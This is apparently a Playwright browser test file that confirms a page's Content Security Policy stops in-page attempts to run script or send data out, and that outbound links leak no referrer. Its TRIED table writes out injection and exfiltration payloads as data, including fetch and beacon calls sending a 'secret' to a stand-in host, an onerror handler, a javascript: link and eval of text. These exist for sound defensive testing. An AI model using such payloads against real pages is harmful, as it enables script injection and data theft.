"""What the page's policy forbids, tried from within the page: whatever got in could neither run nor send anything."""

import pytest
from page_browser import Open
from page_sample import sample
from playwright.sync_api import Page

from maps import SituationMap

pytestmark = pytest.mark.browser

# ways out and ways in, each with the directive that must stop it
TRIED = {
    "a request": ("fetch(address).catch(() => {})", "connect-src"),
    "a beacon": ("navigator.sendBeacon(address, 'secret')", "connect-src"),
    "a socket": ("try { new WebSocket('wss://a.example') } catch {}", "connect-src"),
    "events": ("new EventSource(address)", "connect-src"),
    "an image": ("new Image().src = address", "img-src"),
    "a style": ("add('link', { rel: 'stylesheet', href: address })", "style-src-elem"),
    "an image of a style": ("document.body.style.background = `url(${address})`", "img-src"),
    "a font": (
        "add('style', {}, `@font-face { font-family: f; src: url(${address}) } p { font-family: f }`)",
        "font-src",
    ),
    "a script of elsewhere": ("add('script', { src: address })", "script-src-elem"),
    "a script": ("add('script', {}, 'window.ran = 1')", "script-src-elem"),
    "a script of its own making": ("add('script', { src: 'data:text/javascript,window.ran=1' })", "script-src-elem"),
    "a handler": (
        "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=window.ran=1>')",
        "script-src-attr",
    ),
    "code from text": ("try { (0, eval)('window.ran = 1') } catch {}", "script-src"),
    "a timer of text": ("setTimeout('window.ran = 1')", "script-src"),
    "a link that is code": ("add('a', { href: 'javascript:window.ran=1' }).click()", "script-src-elem"),
    "a frame": ("add('iframe', { src: address })", "frame-src"),
    "a frame of its own making": ("add('iframe', { src: 'data:text/html,<p>a' })", "frame-src"),
    "an object": ("add('object', { data: address })", "object-src"),
    "a form": ("add('form', { action: address, method: 'post' }).submit()", "form-action"),
    "another base": ("add('base', { href: address })", "base-uri"),
    "a film": ("add('video', { src: address })", "media-src"),
}
HELP = """
  const address = "https://a.example/?secret";
  const add = (tag, attributes, text = "") => {
    const made = document.createElement(tag);
    for (const [name, value] of Object.entries(attributes)) made.setAttribute(name, value);
    made.textContent = text;
    document.body.append(made);
    return made;
  };
"""


def stopped_by(page: Page, act: str) -> str:
    """The directive that first stopped what was tried."""
    # in a task of the page's own: what is evaluated from outside is above its policy
    script = f"""() => new Promise((done) => {{
      const stopped = (event) => done(event.effectiveDirective);
      document.addEventListener("securitypolicyviolation", stopped, {{ once: true }});
      setTimeout(() => {{ {HELP} {act} }});
      setTimeout(() => done("nothing"), 3000);
    }})"""
    return str(page.evaluate(script))


def test_the_policy_stops_every_way_out_and_in(opened: Open) -> None:
    page, _, _ = opened(SituationMap(sample()))
    ends: list[str] = []
    page.on("requestfailed", lambda request: ends.append(str(request.failure)))
    page.on("requestfinished", lambda request: ends.append(request.url))
    stopped = {name: stopped_by(page, act) for name, (act, _) in TRIED.items()}
    assert stopped == {name: directive for name, (_, directive) in TRIED.items()}
    assert page.evaluate("window.ran") is None
    # none came so far that the network, which is off, would have had to refuse it
    assert set(ends) <= {"csp", "net::ERR_BLOCKED_BY_CSP"}


def test_links_out_tell_nobody_where_they_were_followed(opened: Open) -> None:
    page, _, _ = opened(SituationMap(sample()))
    page.locator(".post").dispatch_event("click")
    links = page.locator("a[href^=http]")
    assert links.count() > 2
    for link in links.all():
        assert link.get_attribute("rel") == "noopener noreferrer"
        assert link.get_attribute("referrerpolicy") == "no-referrer"
    assert page.locator("meta[name=referrer]").get_attribute("content") == "no-referrer"
